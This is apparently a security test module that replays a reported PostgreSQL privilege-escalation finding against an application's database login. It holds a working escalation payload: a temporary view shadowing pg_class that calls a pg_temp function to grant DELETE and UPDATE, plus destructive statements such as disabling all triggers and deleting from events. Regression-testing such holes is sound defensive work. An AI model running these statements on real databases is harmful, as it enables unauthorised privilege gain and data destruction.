/** Finding 4: the application's login creates a view that a function of the owner reads. */
import { asAdmin, APP_ROLE } from '../../../src/sandbox/roles.ts'
import type { Attack } from '../attack.ts'

/** Statements of a stolen login: first the issue's, then the same through other object names. */
const STATEMENTS = [
  `create function pg_temp.as_owner() returns real language plpgsql as $$ begin
     execute 'grant delete, update on public.events to ${APP_ROLE}'; return 1;
   end $$`,
  `create temporary view pg_class as select 'public.complaints'::regclass::oid as oid, pg_temp.as_owner() as reltuples`,
  'grant select on pg_temp.pg_class to public',
  `select public.expected_share('a', null, null)`,
  `create temporary table clients as select 1 as id`,
  'create table public.mine (id integer)',
  'create schema mine',
  `set role complaints_owner`,
  `alter table public.events disable trigger all`,
  'delete from public.events',
  `update public.events set at = now()`,
]

/** @returns the outcome of each statement: `done`, or its SQLSTATE */
export const playStatements = (url: string): Promise<string[]> => asAdmin(url, async client => {
  const outcomes: string[] = []
  for (const text of STATEMENTS) {
    outcomes.push(await client.query(text).then(() => 'done', (error: { code?: string }) => error.code ?? 'failed'))
  }
  return outcomes
})

/** @param url of a login that sees all privileges */
export const mayChangeEvents = (url: string): Promise<boolean> => asAdmin(url, async client => {
  const { rows: [row] } = await client.query<{ may: boolean }>(
    'select has_table_privilege($1, \'public.events\', \'DELETE, UPDATE\') as may', [APP_ROLE])
  return row?.may ?? true
})

export const temporaryView: Attack = {
  name: 'temporary-view',
  finding: 4,
  title: `${STATEMENTS.length} statements by the application's login, among them a view that runs code as the owner`,
  leaves: true,
  async play ({ appUrl, adminUrl, client }) {
    for (const outcome of await playStatements(appUrl)) {
      client.answers.set(outcome, (client.answers.get(outcome) ?? 0) + 1)
    }
    return await mayChangeEvents(adminUrl) ? [`${APP_ROLE} could give itself DELETE and UPDATE on events`] : []
  },
}
